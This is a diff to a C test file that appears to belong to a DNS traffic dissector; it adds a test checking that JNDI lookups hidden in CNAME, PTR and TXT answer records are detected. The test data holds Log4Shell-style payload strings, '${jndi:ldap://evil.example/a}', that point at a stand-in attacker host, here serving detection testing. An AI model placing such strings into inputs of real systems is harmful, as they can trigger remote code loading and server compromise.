@@ -122,6 +122,30 @@ START_TEST(an_answer_tells_addresses_and_the_first_alias)
 }
 END_TEST
 
+// Names and texts of an answer are logged as those of a question are.
+START_TEST(a_look_up_in_an_answers_records_is_found)
+{
+	static const uint16_t types[] = {5, 12, 16}; // CNAME, PTR, TXT
+	static struct maker data;
+
+	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
+		struct line line = {false, {NULL, 0}};
+		struct talk talk = {.ops = &proto_dns_udp, .flow = udp_out, .lines = &line, .count = 1};
+
+		m.n = data.n = 0;
+		make_header(&m, 0x8180, 1, 1);
+		make_question(&m, "www.example", types[i]);
+		make_name(&data, types[i] == 5 ? "${jndi:ldap://evil.example/a}" : "${jndi:ldap://evil/a}");
+		make_record(&m, types[i], data.b, data.n);
+		line.said = made(&m);
+		talk_play(&talk, 0, 0, 0, &caught);
+		ck_assert_uint_eq(caught.count, 2);
+		ck_assert_uint_eq(caught.o[1].kind, OBS_JNDI);
+		talk_expect_text(&caught.o[1], TEXT_JNDI_HOST, types[i] == 5 ? "evil.example" : "evil");
+	}
+}
+END_TEST
+
 START_TEST(empty_messages_before_the_first_hide_nothing)
 {
 	static const uint8_t zeros[12];
@@ -445,6 +469,7 @@ int main(void)
 	tcase_set_timeout(t, 100);
 	tcase_add_test(t, a_query_tells_name_and_type);
 	tcase_add_test(t, an_answer_tells_addresses_and_the_first_alias);
+	tcase_add_test(t, a_look_up_in_an_answers_records_is_found);
 	tcase_add_test(t, empty_messages_before_the_first_hide_nothing);
 	tcase_add_test(t, every_cut_datagram_is_told_as_far_as_it_goes_or_refused);
 	tcase_add_test(t, two_questions_are_told_and_an_answer_that_cannot_be_read_is_marked);
